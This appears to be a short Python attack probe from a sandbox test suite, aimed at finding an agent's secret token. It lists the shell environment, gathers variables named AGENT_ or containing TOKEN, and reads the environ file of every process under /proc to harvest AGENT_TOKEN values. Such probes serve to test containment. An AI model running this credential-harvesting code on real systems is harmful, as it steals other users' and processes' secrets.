"""The secret in a variable of the developer's shell: in ours, our parents' and everybody's environment."""

# aims: secret
# control: harms
import os

from attack import attempt, loot, tried

tried()
print(sorted(os.environ))
loot({name: value for name, value in os.environ.items() if name.startswith("AGENT_") or "TOKEN" in name})
for name in os.listdir("/proc"):
    if name.isdigit():
        data = attempt(lambda name=name: open(f"/proc/{name}/environ", "rb").read())
        if data and b"AGENT_TOKEN" in data:
            loot(data)
